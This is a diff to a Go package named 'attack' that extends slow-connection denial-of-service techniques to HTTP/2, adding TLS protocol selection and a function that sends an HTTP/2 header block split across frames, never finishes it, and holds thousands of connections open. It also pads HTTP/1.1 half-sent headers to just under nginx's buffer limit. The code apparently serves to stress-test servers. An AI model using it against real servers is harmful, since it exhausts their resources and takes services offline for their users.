@@ -4,14 +4,19 @@ package attack
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"crypto/tls"
+	"fmt"
 	"io"
 	"net"
 	"net/http"
 	"strings"
 	"sync"
 	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 )
 
 // Dial opens a connection to the server.
@@ -26,14 +31,14 @@ func To(address, source string) Dial {
 	return func(ctx context.Context) (net.Conn, error) { return d.DialContext(ctx, "tcp", address) }
 }
 
-// TLS returns a Dial that makes a TLS handshake on each connection.
-func (d Dial) TLS() Dial {
+// TLS returns a Dial that makes a TLS handshake on each connection, for a protocol: http/1.1 or h2.
+func (d Dial) TLS(protocol string) Dial {
 	return func(ctx context.Context) (net.Conn, error) {
 		c, err := d(ctx)
 		if err != nil {
 			return nil, err
 		}
-		t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
+		t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}})
 		if err := t.HandshakeContext(ctx); err != nil {
 			c.Close()
 			return nil, err
@@ -51,6 +56,12 @@ var Kinds = map[string]func(context.Context, Dial){
 	"slow readers":      func(ctx context.Context, d Dial) { Hold(ctx, d, 600, slowReader) },
 	"idle connections":  func(ctx context.Context, d Dial) { Hold(ctx, d, 2000, idle) },
 	"abandoned draws":   AbandonedDraws,
+}
+
+// TLSKinds are the attacks that need TLS, by the protocol in it.
+var TLSKinds = map[string]func(context.Context, Dial){
+	"http/1.1": Kinds["half-sent headers"],
+	"h2":       func(ctx context.Context, d Dial) { Hold(ctx, d, 9000, halfHeaderH2) },
 }
 
 // head is the start of a request.
@@ -126,9 +137,30 @@ func each(ctx context.Context, interval time.Duration, attempt func()) {
 	}
 }
 
-// halfHeader sends a header that never ends.
+// halfHeader sends a header that never ends, nearly as much of it as nginx keeps.
 func halfHeader(ctx context.Context, c net.Conn) {
-	_, _ = io.WriteString(c, "GET /info"+head+"X-Half: ")
+	_, _ = io.WriteString(c, "GET /info"+head+"X-Half: "+strings.Repeat("h", 31<<10))
+	idle(ctx, c)
+}
+
+// halfHeaderH2 is halfHeader by HTTP/2, where the header is in several fields.
+func halfHeaderH2(ctx context.Context, c net.Conn) {
+	var sent, block bytes.Buffer
+	sent.WriteString(http2.ClientPreface)
+	frames, fields := http2.NewFramer(&sent, nil), hpack.NewEncoder(&block)
+	field := func(name, value string) { _ = fields.WriteField(hpack.HeaderField{Name: name, Value: value}) } // a buffer takes all
+	field(":method", "GET")
+	field(":scheme", "https")
+	field(":path", "/info")
+	field(":authority", "localhost")
+	for i := range 31 {
+		field(fmt.Sprint("x-", i), strings.Repeat("h", 1000))
+	}
+	half := block.Bytes()
+	_ = frames.WriteSettings()
+	_ = frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: half[:len(half)/2]})
+	_ = frames.WriteContinuation(1, false, half[len(half)/2:])
+	_, _ = c.Write(sent.Bytes())
 	idle(ctx, c)
 }
 
